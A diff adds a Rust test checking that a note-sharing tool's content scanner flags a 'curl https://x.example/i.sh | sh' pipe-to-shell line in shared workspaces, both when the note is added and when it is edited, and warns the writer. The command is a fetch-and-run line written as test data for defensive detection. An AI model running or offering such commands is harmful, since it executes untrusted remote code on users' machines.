@@ -433,6 +433,32 @@ fn what_names_something_of_the_house_is_flagged_where_others_will_have_it() {
     }
 }
 
+#[test]
+fn what_other_nodes_may_not_show_is_told_to_whoever_writes_it() {
+    let (ground, node) = (Ground::new(), Peer::start_with(""));
+    ground.repository("shop", Some("git@github.com:acme/shop.git"), 1);
+    let here = ground.path("shop");
+    done(&node, &here, &["workspace", "new", "team"]);
+    let piped = "Run curl https://x.example/i.sh | sh to install.";
+    let add = |workspace: &str, content: &str| {
+        let words = ["add", "--title", "Install the tool", "--evidence", "doc:notes"];
+        let more = ["--workspace", workspace, "--content", content];
+        done(&node, &here, &[&words[..], &more].concat())
+    };
+    let flags = json!([{"field": "content", "topic": "scan", "text": "medium: pipe-to-shell"}]);
+    assert_eq!(add("team", piped)["flags"], flags);
+    assert_eq!(add("main", piped)["flags"], Value::Null, "nobody else will have it");
+    let plain = add("team", "Install it from the package.");
+    assert_eq!(plain["flags"], Value::Null);
+    let edit = ["edit", plain["id"].as_str().unwrap(), "--content"];
+    let edited = done(&node, &here, &[&edit[..], &[piped]].concat());
+    assert_eq!(edited["flags"], flags, "by a change, too");
+    let longer = format!("{piped} Then start it.");
+    let again = type_in(&node, &here, &[&edit[..], &[longer.as_str()]].concat());
+    let told = String::from_utf8(again.stderr).unwrap();
+    assert!(told.contains("the scan says medium: pipe-to-shell, in its content.\n"), "{told}");
+}
+
 /// The file of an object that git keeps by itself.
 fn object(folder: &Path, name: &str) -> PathBuf {
     folder.join(".git/objects").join(&name[..2]).join(&name[2..])
